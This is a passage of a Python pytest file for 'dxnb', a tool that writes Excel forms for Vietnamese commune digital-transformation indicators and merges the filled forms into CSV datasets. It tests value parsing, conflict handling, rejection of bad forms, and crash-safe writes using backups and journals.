"""Excel forms: `dxnb template` writes them, `dxnb import` merges them without losing data."""

from __future__ import annotations

import csv
import datetime as dt
import fcntl
import hashlib
import os
import shutil
import signal
import stat
import threading
import time
from pathlib import Path

import openpyxl
import pytest

from dxnb import catalogue as cat
from dxnb import fileio, intake
from dxnb.cli import main
from dxnb.dataset import check_dataset, load_dataset
from dxnb.errors import DxnbError, FormError
from dxnb.fileio import LOCK_NAME
from dxnb.formreader import read_form, read_value
from dxnb.forms import (
    CODE_CELL,
    FIRST_ROW,
    META_SHEET,
    NOTES_FIRST_ROW,
    NOTES_SHEET,
    PERIOD_CELL,
    VALUES_SHEET,
    build_template,
    write_template,
)
from dxnb.intake import FormRefusedError, ImportConflictError, import_forms, plan_import
from dxnb.values import ValueProblem

VINH_HOA = "25882"

# --------------------------------------------------------------------------- helpers


@pytest.fixture()
def data_copy(former_copy):
    """These tests fill 2025 forms of the former units: the sample as it was before the 2025 communes."""
    return former_copy


def snapshot(folder: Path) -> dict[str, str]:
    """SHA-256 of every file under ``folder``: equal snapshots mean nothing was touched."""
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and p.name != LOCK_NAME  # the lock file stays, empty: removing it would race
    }


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def make_form(data_dir: Path, path: Path, unit: str = VINH_HOA, period: str = "2025") -> Path:
    return write_template(load_dataset(data_dir), unit, period, path)


def row_of(ws, indicator: str) -> int:
    for row in range(FIRST_ROW, ws.max_row + 1):
        if ws.cell(row, 1).value == indicator:
            return row
    raise KeyError(indicator)


def fill(
    path: Path,
    values: dict | None = None,
    *,
    notes=(),
    sources: dict | None = None,
    formats: dict | None = None,
    edit=None,
    out: Path | None = None,
) -> Path:
    """Fill a form the way a user would in Excel; saves to ``out`` (default: in place)."""
    wb = openpyxl.load_workbook(path)
    ws = wb[VALUES_SHEET]
    for indicator, value in (values or {}).items():
        ws.cell(row_of(ws, indicator), 7).value = value
    for indicator, source in (sources or {}).items():
        ws.cell(row_of(ws, indicator), 8).value = source
    for indicator, number_format in (formats or {}).items():
        ws.cell(row_of(ws, indicator), 7).number_format = number_format
    for offset, (kind, text) in enumerate(notes):
        wb[NOTES_SHEET].cell(NOTES_FIRST_ROW + offset, 1).value = kind
        wb[NOTES_SHEET].cell(NOTES_FIRST_ROW + offset, 2).value = text
    if edit is not None:
        edit(wb)
    target = out or path
    wb.save(target)
    return target


FILLED = {
    "plans_issued": " 14 ",  # text with spaces
    "decisions_issued": 7,
    "steering_committee": "có",
    "security_plan": "một phần",
    "outreach_panels": 7,
    "panel_hamlets": 6,
    "household_fibre_rate": 90.6,
    "adult_smartphone_rate": "92,4",  # decimal comma typed as text
    "personal_signatures": "1.083",  # thousands dot typed as text
    "online_dossier_rate": "55%",
    "onestop_online_support": "không",
}
EXPECTED = {
    "plans_issued": 14, "decisions_issued": 7, "steering_committee": 1, "security_plan": 0.5,
    "outreach_panels": 7, "panel_hamlets": 6, "household_fibre_rate": 90.6, "adult_smartphone_rate": 92.4,
    "personal_signatures": 1083, "online_dossier_rate": 55, "onestop_online_support": 0,
}  # fmt: skip
NOTES = [("điểm mạnh", "Tổ công nghệ số cộng đồng hoạt động ở cả 6 ấp."),
         ("khó khăn", "Thanh toán không dùng tiền mặt chưa phổ biến."),
         ("giải pháp", "Tập huấn thêm cho người dân.")]  # fmt: skip


@pytest.fixture()
def filled(data_copy: Path, tmp_path: Path) -> Path:
    """A form of Vĩnh Hòa for 2025, filled with Vietnamese habits."""
    return fill(make_form(data_copy, tmp_path / "vinh-hoa-2025.xlsx"), FILLED, notes=NOTES)


def values_of(data_dir: Path, unit: str, period: str) -> dict[str, float]:
    obs = load_dataset(data_dir).observations
    rows = obs[(obs["unit_code"] == unit) & (obs["period"] == period)]
    return dict(zip(rows["indicator"], rows["value"], strict=True))


# --------------------------------------------------------------------------- the template


def test_template_layout(former_copy):
    sample = load_dataset(former_copy)  # Vĩnh Hòa's 2025 form, as before the 2025 communes
    wb = build_template(sample, VINH_HOA, "2025")
    assert wb.sheetnames == [VALUES_SHEET, NOTES_SHEET, META_SHEET]
    ws = wb[VALUES_SHEET]
    assert ws[CODE_CELL].value == VINH_HOA and ws[CODE_CELL].number_format == "@"
    assert ws[PERIOD_CELL].value == "2025"
    assert "Vĩnh Hòa" in ws["C4"].value and ws["C5"].value == "Phú Giáo"
    ids = [ws.cell(r, 1).value for r in range(FIRST_ROW, FIRST_ROW + len(sample.catalogue.observed))]
    assert sorted(ids) == sorted(i.id for i in sample.catalogue.observed)
    assert not {i.id for i in sample.catalogue.derived} & set(ids)  # derived ones are not asked for
    assert ws.cell(FIRST_ROW + len(ids), 1).value is None
    headers = [c.value for c in ws[FIRST_ROW - 1]]
    assert headers[:5] == ["Mã chỉ tiêu", "Tên chỉ tiêu", "Trụ cột", "Đơn vị tính", "Cách tính"]
    assert headers[5:7] == ["Giá trị năm 2024", "Giá trị năm 2025"]
    # previous period's values, for reference
    assert ws.cell(row_of(ws, "adult_smartphone_rate"), 6).value == pytest.approx(92.4)
    assert ws.cell(row_of(ws, "personal_signatures"), 6).value == 1083
    assert ws.cell(row_of(ws, "onestop_online_support"), 6).value == "có"
    # derived indicators: their formula is shown, not asked
    assert "Tỷ lệ người trưởng thành có chữ ký số cá nhân" in ws.cell(row_of(ws, "personal_signatures"), 5).value
    # locked ids, unlocked inputs, protection without a password
    row = row_of(ws, "plans_issued")
    assert ws.cell(row, 1).protection.locked and ws.cell(row, 6).protection.locked
    assert not any(ws.cell(row, c).protection.locked for c in (7, 8, 9))
    assert ws.protection.sheet and not ws.protection.password
    assert wb.security.lockStructure and not wb.security.workbookPassword
    # frozen header, print setup
    assert ws.freeze_panes == f"C{FIRST_ROW}"
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9  # A4
    assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == f"${FIRST_ROW - 1}:${FIRST_ROW - 1}"
    assert ws.column_dimensions["B"].width > 30
    # Excel's own checks on the value cells
    rules = {dv.type: dv for dv in ws.data_validations.dataValidation}
    assert len(rules) == len(ws.data_validations.dataValidation) == 3  # no observed ratio in the catalogue
    assert (rules["decimal"].formula1, rules["decimal"].formula2) == ("0", "100")
    assert rules["whole"].operator == "greaterThanOrEqual" and rules["whole"].formula1 == "0"
    assert rules["list"].formula1 == '"có,một phần,không"'
    assert f"G{row_of(ws, 'adult_smartphone_rate')}" in str(rules["decimal"].sqref)
    assert f"G{row_of(ws, 'personal_signatures')}" in str(rules["whole"].sqref)
    notes = wb[NOTES_SHEET]
    assert notes.data_validations.dataValidation[0].formula1 == '"điểm mạnh,khó khăn,giải pháp"'
    assert not notes[f"B{NOTES_FIRST_ROW}"].protection.locked
    meta = dict(wb[META_SHEET].iter_rows(values_only=True))
    assert wb[META_SHEET].sheet_state == "veryHidden"
    assert meta["format"] == "dxnb-form" and meta["unit_code"] == VINH_HOA and meta["period"] == "2025"
    assert meta["ids"].split(";") == ids


def test_template_keeps_leading_zeros(data_copy, tmp_path):
    units = data_copy / "units.csv"
    units.write_text(
        units.read_text(encoding="utf-8") + "01234,Thử Nghiệm,xã,Phú Giáo,Bình Dương,1000,700,300,3,,test\n",
        encoding="utf-8",
    )
    form = fill(make_form(data_copy, tmp_path / "f.xlsx", unit="01234"), {"plans_issued": 3})
    wb = openpyxl.load_workbook(form)
    assert wb[VALUES_SHEET][CODE_CELL].value == "01234"
    import_forms([form], data_copy)
    assert "01234,2025,plans_issued,3," in (data_copy / "observations.csv").read_text(encoding="utf-8")
    assert values_of(data_copy, "01234", "2025") == {"plans_issued": 3}


def test_template_cli(data_copy, tmp_path, capsys):
    out = tmp_path / "form.xlsx"
    before = snapshot(data_copy)
    assert main(["template", "--unit", "Vĩnh Hoà", "--period", "2025", "--data", str(data_copy), "-o", str(out)]) == 0
    assert out.is_file() and f"({VINH_HOA})" in capsys.readouterr().out
    assert stat.S_IMODE(out.stat().st_mode) & 0o044  # readable by others, unlike a bare temporary file
    first = digest(out)
    # an existing (perhaps filled) form is not overwritten without --force
    assert main(["template", "--unit", VINH_HOA, "--period", "2025", "--data", str(data_copy), "-o", str(out)]) == 2
    assert "already exists" in capsys.readouterr().err and digest(out) == first
    assert (
        main(["template", "--unit", VINH_HOA, "--period", "2025", "--data", str(data_copy), "-o", str(out), "--force"])
        == 0
    )
    folder = tmp_path / "forms"
    assert main(["template", "--all", "--period", "2025", "--data", str(data_copy), "--out-dir", str(folder)]) == 0
    assert len(list(folder.glob("*.xlsx"))) == 11 and (folder / "25882-vinh-hoa-2025.xlsx").is_file()
    assert snapshot(data_copy) == before


@pytest.mark.parametrize(("args", "message"), [
    (["--unit", "Vĩnh Hảo", "--period", "2025"], "No unit is named"),
    (["--unit", "99999", "--period", "2025"], "No unit has the code"),
    (["--unit", VINH_HOA, "--period", "25"], "not a period"),
    (["--unit", VINH_HOA, "--period", "2025", "-o", "form.xls"], "ending in .xlsx"),
    (["--period", "2025"], "--unit"),
    (["--all", "--period", "2025"], "--out-dir"),
])  # fmt: skip
def test_template_errors(data_copy, tmp_path, monkeypatch, capsys, args, message):
    monkeypatch.chdir(tmp_path)
    assert main(["template", "--data", str(data_copy), *args]) == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err
    assert not list(tmp_path.glob("*.xls*"))


# --------------------------------------------------------------------------- reading values


def _ind(kind: str) -> cat.Indicator:
    return cat.Indicator("x", "p", "x", "x", "", "", kind, "none")


@pytest.mark.parametrize(("raw", "kind", "fmt", "expected"), [
    ("92,4", "rate", "General", 92.4),
    ("92.4", "rate", "General", 92.4),
    (" 14 ", "count", "General", 14),
    ("1.083", "count", "General", 1083),
    ("1.083.000", "count", "General", 1083000),
    ("1 083", "count", "General", 1083),
    ("1.083,5", "ratio", "General", 1083.5),
    ("92,4%", "rate", "General", 92.4),
    (0.924, "rate", "0.0%", 92.4),  # "92,4%" typed into Excel is stored as 0.924
    (92.4, "rate", "General", 92.4),
    (1083, "count", "#,##0", 1083),
    ("có", "yes_partial_no", "General", 1),
    ("Một phần", "yes_partial_no", "General", 0.5),
    ("khong", "yes_partial_no", "General", 0),
    (0.5, "yes_partial_no", "General", 0.5),
])  # fmt: skip
def test_read_value(raw, kind, fmt, expected):
    assert read_value(raw, fmt, _ind(kind)) == pytest.approx(expected)


@pytest.mark.parametrize(("raw", "kind", "message", "hint"), [
    ("1.083", "rate", "ambiguous", "1,083"),
    ("1,5", "count", "decimal comma", "whole number"),
    ("1.083,5", "count", "not a whole number", "whole number"),
    (1.083, "count", "not a whole number", "1083"),
    ("abc", "rate", "not a number", ""),
    (dt.datetime(2025, 5, 14), "rate", "date", "Number"),
    (True, "count", "not a number", ""),
    ("maybe", "yes_partial_no", "not có, một phần or không", "list"),
])  # fmt: skip
def test_read_value_refuses(raw, kind, message, hint):
    with pytest.raises(ValueProblem) as caught:
        read_value(raw, "General", _ind(kind))
    assert message in caught.value.message and hint in caught.value.hint


# --------------------------------------------------------------------------- importing


def test_round_trip(data_copy, filled):
    form_hash = digest(filled)
    plan = import_forms([filled], data_copy)
    assert plan.written and plan.counts("observations.csv") == {"new": len(FILLED), "changed": 0, "unchanged": 0}
    assert plan.counts("notes.csv") == {"new": 3, "unchanged": 0, "removed": 0}
    dataset, problems = check_dataset(data_copy)  # the backups folder does not disturb loading
    assert dataset is not None, [str(p) for p in problems]
    assert "2025" in dataset.periods
    got = values_of(data_copy, VINH_HOA, "2025")
    assert got == pytest.approx(EXPECTED)
    assert set(got) == set(EXPECTED)  # empty cells are "not reported", not zero
    notes = dataset.notes[(dataset.notes["unit_code"] == VINH_HOA) & (dataset.notes["period"] == "2025")]
    assert sorted(notes["kind"]) == ["challenge", "next_step", "strength"]
    assert all("vinh-hoa-2025.xlsx" in s for s in notes["source"])
    text = (data_copy / "observations.csv").read_text(encoding="utf-8")
    assert f"{VINH_HOA},2025,personal_signatures,1083," in text
    assert f"{VINH_HOA},2025,adult_smartphone_rate,92.4," in text
    assert digest(filled) == form_hash  # the form itself is never modified


def test_import_keeps_untouched_bytes_and_backs_up(data_copy, filled):
    obs = data_copy / "observations.csv"
    original = obs.read_bytes()
    obs.chmod(0o664)
    plan = import_forms([filled], data_copy)
    assert stat.S_IMODE(obs.stat().st_mode) == 0o664  # the rewrite keeps the file's permissions
    assert obs.read_bytes().startswith(original)  # old rows (quoting, qualifier column) kept byte for byte
    backups = sorted((data_copy / "backups").iterdir())
    assert [b.name.split(".")[0] for b in backups] == ["notes", "observations"]
    assert {b.name for b in backups} == {p.name for p in plan.backups}
    assert (data_copy / "backups" / next(b.name for b in backups if b.name.startswith("obs"))).read_bytes() == original


def test_import_keeps_crlf_and_bom(data_copy, filled):
    obs = data_copy / "observations.csv"
    crlf = b"\xef\xbb\xbf" + obs.read_bytes().replace(b"\n", b"\r\n")
    obs.write_bytes(crlf)
    import_forms([filled], data_copy)
    data = obs.read_bytes()
    assert data.startswith(crlf) and data.count(b"\r\n") == data.count(b"\n")
    assert check_dataset(data_copy)[0] is not None


def test_import_after_last_line_without_newline(data_copy, filled):
    obs = data_copy / "observations.csv"
    obs.write_bytes(obs.read_bytes().rstrip(b"\n"))
    empty = make_form(data_copy, filled.with_name("empty.xlsx"))
    before = snapshot(data_copy)
    assert not import_forms([empty], data_copy).written and snapshot(data_copy) == before
    import_forms([filled], data_copy)
    assert check_dataset(data_copy)[0] is not None
    assert values_of(data_copy, VINH_HOA, "2025") == pytest.approx(EXPECTED)


def test_reimport_changes_nothing(data_copy, filled):
    import_forms([filled], data_copy)
    before = snapshot(data_copy)
    plan = import_forms([filled], data_copy)
    assert not plan.written and not plan.backups
    assert plan.counts("observations.csv") == {"new": 0, "changed": 0, "unchanged": len(FILLED)}
    assert plan.counts("notes.csv")["unchanged"] == 3
    assert snapshot(data_copy) == before


def test_dry_run_writes_nothing(data_copy, filled, capsys):
    before = snapshot(data_copy)
    plan = import_forms([filled], data_copy, dry_run=True)
    assert not plan.written and plan.has_changes and plan.counts("observations.csv")["new"] == len(FILLED)
    assert main(["import", str(filled), "--data", str(data_copy), "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert f"observations.csv: {len(FILLED)} new, 0 changed, 0 unchanged" in out
    assert "personal_signatures: 1083" in out and "nothing was written" in out
    assert snapshot(data_copy) == before


def test_conflicts_refused_then_replaced(data_copy, tmp_path):
    # 2024 already holds Vĩnh Hòa's surveyed figures (92.4% smartphones, 640 attendances, lower bound)
    form = fill(
        make_form(data_copy, tmp_path / "f.xlsx", period="2024"),
        {"adult_smartphone_rate": "93,1", "meeting_attendance": 700, "plans_issued": 14, "steering_meetings": 4},
    )
    before = snapshot(data_copy)
    with pytest.raises(ImportConflictError) as caught:
        import_forms([form], data_copy)
    message = str(caught.value)
    assert "f.xlsx:'Chỉ tiêu'!G" in message and "the dataset has 92.4, the form 93.1" in message
    assert "meeting_attendance" in message and "--replace" in message
    assert "plans_issued" not in message  # same value: no conflict
    assert len(caught.value.problems) == 2
    assert snapshot(data_copy) == before
    assert main(["import", str(form), "--data", str(data_copy)]) == 2
    assert snapshot(data_copy) == before

    plan = import_forms([form], data_copy, replace=True)
    # the form came pre-filled with the 14 values 2024 holds: the untouched ones come back unchanged
    assert plan.counts("observations.csv") == {"new": 1, "changed": 2, "unchanged": 13}
    got = values_of(data_copy, VINH_HOA, "2024")
    assert got["adult_smartphone_rate"] == pytest.approx(93.1) and got["meeting_attendance"] == 700
    assert got["steering_meetings"] == 4 and got["plans_issued"] == 14
    lines = (data_copy / "observations.csv").read_text(encoding="utf-8").splitlines()
    attendance = next(line for line in lines if line.startswith(f"{VINH_HOA},2024,meeting_attendance,"))
    assert attendance.endswith(",") and "lower_bound" not in attendance  # the old figure's qualifier went with it
    assert any(
        line.startswith(f"{VINH_HOA},2024,training_classes,2,") and line.endswith("lower_bound") for line in lines
    )  # other rows keep theirs
    assert check_dataset(data_copy)[0] is not None


def test_notes_replace(data_copy, tmp_path):
    form = fill(
        make_form(data_copy, tmp_path / "f.xlsx", period="2024"),
        notes=[
            ("khó khăn", "Thanh toán không dùng tiền mặt chưa phổ biến do người dân lo ngại về an toàn thông tin."),
            ("giải pháp", "Mở thêm lớp tập huấn."),
        ],
    )
    plan = import_forms([form], data_copy, dry_run=True)
    assert plan.counts("notes.csv") == {"new": 1, "unchanged": 1, "removed": 0}
    plan = import_forms([form], data_copy, replace=True)
    assert plan.counts("notes.csv") == {"new": 1, "unchanged": 1, "removed": 7}
    notes = load_dataset(data_copy).notes
    assert len(notes[(notes["unit_code"] == VINH_HOA) & (notes["period"] == "2024")]) == 2
    assert len(notes[notes["unit_code"] != VINH_HOA]) == 5  # other units untouched


def test_two_forms_merge_and_disagree(data_copy, tmp_path):
    a = fill(make_form(data_copy, tmp_path / "a.xlsx"), {"plans_issued": 3})
    b = fill(make_form(data_copy, tmp_path / "b.xlsx", unit="25885"), {"plans_issued": 4})
    plan = import_forms([a, b, a], data_copy)  # a file named twice is read once
    assert plan.counts("observations.csv")["new"] == 2
    c = fill(make_form(data_copy, tmp_path / "c.xlsx", period="2026"), {"plans_issued": 3})
    d = fill(make_form(data_copy, tmp_path / "d.xlsx", period="2026"), {"plans_issued": 5})
    before = snapshot(data_copy)
    with pytest.raises(FormRefusedError, match=r"conflicts with .*c\.xlsx"):
        import_forms([c, d], data_copy)
    assert snapshot(data_copy) == before


# --------------------------------------------------------------------------- bad forms


def _edit_id(wb):
    wb[VALUES_SHEET][f"A{FIRST_ROW + 2}"] = "plans_isued"


def _insert_row(wb):
    wb[VALUES_SHEET].insert_rows(FIRST_ROW + 3)


def _edit_period(wb):
    wb[VALUES_SHEET][PERIOD_CELL] = "2024"


def _edit_code(wb):
    wb[VALUES_SHEET][CODE_CELL] = "25885"


def _bad_note(wb):
    wb[NOTES_SHEET][f"A{NOTES_FIRST_ROW}"] = "điểm yếu"
    wb[NOTES_SHEET][f"B{NOTES_FIRST_ROW}"] = "…"


@pytest.mark.parametrize(("values", "edit", "expected"), [
    ({}, _edit_id, ["'Chỉ tiêu'!A13", "reads 'plans_isued'", "ids are locked"]),
    ({}, _insert_row, ["'Chỉ tiêu'!A14", "must not be inserted"]),
    ({}, _edit_period, ["'Chỉ tiêu'!C7", "period reads '2024'", "made for '2025'"]),
    ({}, _edit_code, ["'Chỉ tiêu'!C3", "unit code reads '25885'"]),
    ({}, _bad_note, ["'Ghi chú'!A7", "not a note kind", "điểm mạnh"]),
    ({"personal_signatures": "1,5"}, None, ["personal_signatures", "whole"]),
    ({"adult_smartphone_rate": 120}, None, ["rate 120 is outside 0–100", "percentages"]),
    ({"adult_smartphone_rate": "1.083"}, None, ["ambiguous"]),
    ({"plans_issued": -3}, None, ["-3 is negative", "0 or more"]),
    ({"plans_issued": "nhiều"}, None, ["'nhiều' is not a figure", "put the words in the note column"]),
    ({"training_classes": "dưới 5"}, None, ["'dưới 5' is an upper bound", "khoảng 5"]),
    ({"security_plan": "chưa"}, None, ["not có, một phần or không"]),
    ({"household_fibre_rate": dt.datetime(2025, 9, 6)}, None, ["date", "06/09/2025"]),
])  # fmt: skip
def test_bad_form_refused(data_copy, tmp_path, capsys, values, edit, expected):
    good = fill(make_form(data_copy, tmp_path / "good.xlsx", unit="25885"), {"plans_issued": 2})
    form = fill(make_form(data_copy, tmp_path / "form.xlsx"), {"decisions_issued": 3, **values}, edit=edit)
    before, form_hash, good_hash = snapshot(data_copy), digest(form), digest(good)
    with pytest.raises(FormRefusedError) as caught:
        import_forms([good, form], data_copy)
    for text in expected:
        assert text in str(caught.value)
    assert f"{form}:" in str(caught.value)  # located in the file, Excel style
    assert main(["import", str(good), str(form), "--data", str(data_copy)]) == 2
    err = capsys.readouterr().err
    assert expected[0] in err and "Traceback" not in err
    assert snapshot(data_copy) == before  # one bad form: nothing imported, not even the good one
    assert (digest(form), digest(good)) == (form_hash, good_hash)


def test_unknown_unit(data_copy, tmp_path):
    other = tmp_path / "other"
    shutil.copytree(data_copy, other)
    units = other / "units.csv"
    units.write_text(units.read_text(encoding="utf-8") + "25999,Mới,xã,Phú Giáo,Bình Dương,,,,,,x\n", encoding="utf-8")
    form = fill(make_form(other, tmp_path / "new-unit.xlsx", unit="25999"), {"plans_issued": 1})
    before = snapshot(data_copy)
    with pytest.raises(FormRefusedError, match=r"unit '25999' \(xã Mới\), which is not in .*units.csv"):
        import_forms([form], data_copy)
    assert snapshot(data_copy) == before


@pytest.mark.parametrize(("name", "content", "expected"), [
    ("form.xls", b"\xd0\xcf\x11\xe0old excel", "save it as 'Excel Workbook (*.xlsx)'"),
    ("form.csv", b"unit_code,period\n", "not an Excel .xlsx workbook"),
    ("broken.xlsx", b"this is not a zip file", "cannot be read as an Excel workbook"),
    ("~$form.xlsx", b"lock", "lock file"),
    ("missing.xlsx", None, "no such file"),
    ("forms", "dir", "is a folder"),
])  # fmt: skip
def test_not_a_workbook(data_copy, tmp_path, name, content, expected):
    path = tmp_path / name
    if content == "dir":
        path.mkdir()
    elif content is not None:
        path.write_bytes(content)
    before = snapshot(data_copy)
    with pytest.raises(FormRefusedError, match=expected.replace("(", r"\(").replace(")", r"\)").replace("*", r"\*")):
        import_forms([path], data_copy)
    assert snapshot(data_copy) == before


def test_workbook_that_is_not_a_form(data_copy, tmp_path, capsys):
    path = tmp_path / "someone-elses.xlsx"
    wb = openpyxl.Workbook()
    wb.active["A1"] = "plans_issued"
    wb.active["B1"] = 14
    wb.save(path)
    before = snapshot(data_copy)
    assert main(["import", str(path), "--data", str(data_copy)]) == 2
    err = capsys.readouterr().err
    assert "not a dxnb form" in err and "dxnb template" in err and "Traceback" not in err
    assert snapshot(data_copy) == before


def test_wrong_period_option(data_copy, filled, capsys):
    before = snapshot(data_copy)
    assert main(["import", str(filled), "--data", str(data_copy), "--period", "2024"]) == 2
    assert "the form is for 2025, not 2024" in capsys.readouterr().err
    assert snapshot(data_copy) == before
    assert main(["import", str(filled), "--data", str(data_copy), "--period", "2025"]) == 0


def test_percent_formatted_cell(data_copy, tmp_path):
    form = fill(
        make_form(data_copy, tmp_path / "f.xlsx"),
        {"adult_smartphone_rate": 0.924},
        formats={"adult_smartphone_rate": "0.0%"},
    )
    import_forms([form], data_copy)
    assert values_of(data_copy, VINH_HOA, "2025")["adult_smartphone_rate"] == pytest.approx(92.4)


def test_empty_form_changes_nothing(data_copy, tmp_path):
    form = make_form(data_copy, tmp_path / "f.xlsx")
    before = snapshot(data_copy)
    plan = import_forms([form], data_copy)
    assert not plan.written and not plan.changes
    assert snapshot(data_copy) == before


def test_read_form_warns_on_orphan_source(data_copy, tmp_path):
    form = fill(
        make_form(data_copy, tmp_path / "f.xlsx"), {"plans_issued": 2}, sources={"decisions_issued": "Quyết định số 12"}
    )
    filled_form, problems = read_form(form, load_dataset(data_copy))
    assert filled_form is not None and [v.indicator for v in filled_form.values] == ["plans_issued"]
    assert len(problems) == 1 and not problems[0].is_error and "no value" in problems[0].message


# --------------------------------------------------------------------------- safety nets


def test_merged_dataset_must_validate(data_copy, filled, monkeypatch):
    from dxnb.errors import Problem

    real = intake.check_dataset

    def failing(folder):
        _dataset, problems = real(folder)
        return None, [*problems, Problem("observations.csv", 838, "value", "made-up problem", "fix it")]

    monkeypatch.setattr(intake, "check_dataset", failing)
    before = snapshot(data_copy)
    with pytest.raises(FormRefusedError) as caught:
        import_forms([filled], data_copy)
    assert "would not validate" in str(caught.value)
    assert "vinh-hoa-2025.xlsx:'Chỉ tiêu'!G" in str(caught.value) and "made-up problem" in str(caught.value)
    assert snapshot(data_copy) == before


def _fail_at(monkeypatch, stage: str, failure: type[BaseException]):
    """Make the import's writing fail at ``stage``: a temporary, a backup, or the rename of notes.csv."""
    real_temporary, real_backup, real_replace = fileio.write_temporary, fileio.unique_backup, os.replace
    hit = []

    def temporary(target, data, mode=None):
        if stage == "temporary" and Path(target).name == "notes.csv":
            hit.append(target)
            raise failure("disk pulled out")
        return real_temporary(target, data, mode)

    def backup(folder, name, data, mode=None):
        if stage == "backup" and name == "notes.csv":
            hit.append(name)
            raise failure("disk pulled out")
        return real_backup(folder, name, data, mode)

    def replace(src, dst):
        if stage == "replace" and Path(dst).name == "notes.csv" and not hit:
            hit.append(dst)  # observations.csv was already replaced
            raise failure("disk pulled out")
        return real_replace(src, dst)

    monkeypatch.setattr(fileio, "write_temporary", temporary)
    monkeypatch.setattr(fileio, "unique_backup", backup)
    monkeypatch.setattr(fileio.os, "replace", replace)
    return hit


def leftovers(folder: Path) -> list[str]:
    """Temporaries and journals an import may leave behind."""
    return sorted(p.name for p in folder.rglob(".*") if p.name != LOCK_NAME)


@pytest.mark.parametrize("stage", ["temporary", "backup", "replace"])
@pytest.mark.parametrize("failure", [KeyboardInterrupt, RuntimeError, OSError])
def test_interrupted_write_leaves_dataset(data_copy, filled, monkeypatch, failure, stage):
    before = {name: digest(data_copy / name) for name in ("observations.csv", "notes.csv")}
    hit = _fail_at(monkeypatch, stage, failure)
    expected = FormError if failure is OSError else failure
    with pytest.raises(expected):
        import_forms([filled], data_copy)
    monkeypatch.undo()
    assert hit
    assert {name: digest(data_copy / name) for name in before} == before  # both files as they were
    assert leftovers(data_copy) == []  # no temporary, no journal
    backups = sorted((data_copy / "backups").glob("*")) if (data_copy / "backups").exists() else []
    for backup in backups:  # whatever backup was made is kept, and holds the previous file
        assert digest(backup) == before[backup.name.split(".")[0] + ".csv"]
    if stage == "replace":
        assert len(backups) == 2


def test_interrupted_write_cli(data_copy, filled, monkeypatch, capsys):
    def broken(target, data, mode=None):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(fileio, "write_temporary", broken)
    before = snapshot(data_copy)
    assert main(["import", str(filled), "--data", str(data_copy)]) == 2
    err = capsys.readouterr().err
    assert "No space left on device" in err and "left as it was" in err and "Traceback" not in err
    assert snapshot(data_copy) == before


def test_ctrl_c_while_files_are_moved_into_place(data_copy, filled, monkeypatch):
    """Ctrl-C between the two renames is held back: both files are replaced, the backups stay."""
    old = {name: (data_copy / name).read_bytes() for name in ("observations.csv", "notes.csv")}
    real_replace = os.replace

    def replace(src, dst):
        if Path(dst).name == "observations.csv":
            os.kill(os.getpid(), signal.SIGINT)  # the user presses Ctrl-C right now
        return real_replace(src, dst)

    monkeypatch.setattr(fileio.os, "replace", replace)
    # Python's own Ctrl-C handler, whatever this process had (a pytest-xdist worker may ignore SIGINT)
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        with pytest.raises(KeyboardInterrupt):
            import_forms([filled], data_copy)
    finally:
        signal.signal(signal.SIGINT, before)
    monkeypatch.undo()
    assert [n for n, data in old.items() if (data_copy / n).read_bytes() == data] == []  # both replaced
    assert values_of(data_copy, VINH_HOA, "2025") == EXPECTED
    backups = sorted((data_copy / "backups").iterdir())
    assert sorted(b.read_bytes() for b in backups) == sorted(old.values())
    assert leftovers(data_copy) == []


def test_sigterm_while_writing_leaves_no_temporary(data_copy, filled, monkeypatch, capsys):
    before = {name: digest(data_copy / name) for name in ("observations.csv", "notes.csv")}
    real_backup = fileio.unique_backup

    def backup(folder, name, data, mode=None):
        os.kill(os.getpid(), signal.SIGTERM)  # `kill <pid>` while the temporaries exist
        return real_backup(folder, name, data, mode)

    monkeypatch.setattr(fileio, "unique_backup", backup)
    assert main(["import", str(filled), "--data", str(data_copy)]) == 130
    assert "interrupted" in capsys.readouterr().err
    assert {name: digest(data_copy / name) for name in before} == before
    assert leftovers(data_copy) == []
    assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL  # the handler is put back


def _crash_between_renames(data_copy: Path, form: Path) -> None:
    """Run an import in a child process killed (no clean-up at all) after observations.csv was replaced."""
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        try:
            real_replace = os.replace

            def replace(src, dst):
                if Path(dst).name == "notes.csv":
                    os._exit(9)
                return real_replace(src, dst)

            fileio.os.replace = replace
            import_forms([form], data_copy)
        finally:
            os._exit(1)
    _, status = os.waitpid(pid, 0)
    assert os.WEXITSTATUS(status) == 9


@pytest.mark.parametrize("temporary_survives", [True, False])
def test_leftover_journal_is_resolved(data_copy, filled, tmp_path, temporary_survives):
    old = {name: (data_copy / name).read_bytes() for name in ("observations.csv", "notes.csv")}
    empty = make_form(data_copy, tmp_path / "empty.xlsx")  # blank: made before the crash (forms are pre-filled)
    _crash_between_renames(data_copy, filled)
    journal = data_copy / fileio.JOURNAL_NAME
    assert journal.exists()
    assert (data_copy / "observations.csv").read_bytes() != old["observations.csv"]
    assert (data_copy / "notes.csv").read_bytes() == old["notes.csv"]  # half done
    if not temporary_survives:
        for tmp in data_copy.glob(".notes.csv.*.tmp"):
            tmp.unlink()
    import_forms([empty], data_copy)  # the next import resolves the journal first
    assert not journal.exists() and leftovers(data_copy) == []
    if temporary_survives:  # rolled forward: both files are new
        assert (data_copy / "notes.csv").read_bytes() != old["notes.csv"]
        assert values_of(data_copy, VINH_HOA, "2025") == EXPECTED
    else:  # rolled back: both files are as before the crashed import
        assert {name: (data_copy / name).read_bytes() for name in old} == old
    assert len(list((data_copy / "backups").iterdir())) == 2  # the crashed import's backups are kept
    assert check_dataset(data_copy)[0] is not None


def test_leftover_temporaries_are_swept(data_copy, filled):
    stale = data_copy / ".observations.csv.k1ll3d.tmp"
    stale.write_text("half a file", encoding="utf-8")
    (data_copy / ".notes.csv.x.tmp").write_text("", encoding="utf-8")
    import_forms([filled], data_copy)
    assert leftovers(data_copy) == []


def test_concurrent_imports_run_one_after_the_other(data_copy, tmp_path, monkeypatch):
    """Two imports of different units at once: both units' values land, each names its own backups."""
    other = "25873"
    forms = [
